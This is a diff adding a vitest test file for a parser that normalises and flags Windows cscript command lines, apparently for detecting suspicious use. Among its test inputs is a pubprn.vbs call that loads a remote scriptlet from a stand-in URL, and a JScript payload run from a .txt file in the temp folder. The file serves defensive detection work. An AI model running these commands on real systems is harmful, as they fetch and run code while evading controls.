@@ -1,0 +1,64 @@
+import { describe, expect, test } from 'vitest'
+import { readToolUse } from './read-tool-use'
+
+describe('cscript', () => {
+  test.each([
+    [
+      'cscript //nologo C:\\Windows\\System32\\slmgr.vbs /dlv',
+      'cscript //nologo <system>\\slmgr.vbs /dlv',
+      'cscript|script|system|vbs',
+      [],
+      'slmgr.vbs',
+    ],
+    [
+      '"C:\\Windows\\system32\\cscript.exe" /nologo "MonitorKnowledgeDiscovery.vbs"',
+      'cscript /nologo monitorknowledgediscovery.vbs',
+      'cscript|script|bare|vbs',
+      [],
+      'monitorknowledgediscovery.vbs',
+    ],
+    [
+      'cscript.exe //E:jscript C:\\Users\\ann\\AppData\\Local\\Temp\\a.txt',
+      'cscript //e:jscript <user-temp>\\*.txt',
+      'cscript|engine|user-temp|txt',
+      ['user-temp', 'odd-extension'],
+      'a.txt',
+    ],
+    [
+      'cscript C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct',
+      'cscript <system>\\printing_admin_scripts\\en-us\\pubprn.vbs <ip> script:https://example.com/*.sct',
+      'cscript|script|system|vbs',
+      ['scriptlet', 'remote-url'],
+      'pubprn.vbs',
+    ],
+    [
+      'cscript //B //T:30 \\\\dc01\\netlogon\\logon.vbs 4711',
+      'cscript //b //t:<n> <unc>\\dc01\\netlogon\\logon.vbs <n>',
+      'cscript|script|unc|vbs',
+      ['unc-path'],
+      'logon.vbs',
+    ],
+    [
+      'cscript C:\\Windows\\System32\\winrm.vbs get winrm/config -format:pretty',
+      'cscript <system>\\winrm.vbs get winrm/config /format:pretty',
+      'cscript|script|system|vbs',
+      [],
+      'winrm.vbs',
+    ],
+    [
+      'cscript //nologo C:\\tools\\a.cmd',
+      'cscript //nologo <root-folder>\\tools\\a.cmd',
+      'cscript|script|root-folder|cmd',
+      ['root-folder', 'odd-extension'],
+      'a.cmd',
+    ],
+    ['cscript', 'cscript', 'cscript|none|-|-', [], null],
+  ])('%s', (line, pattern, shape, facts, hosted) => {
+    expect(readToolUse('cscript.exe', line, 'C:\\Windows\\System32\\cscript.exe')).toMatchObject({
+      pattern,
+      shape,
+      facts,
+      hosted,
+    })
+  })
+})
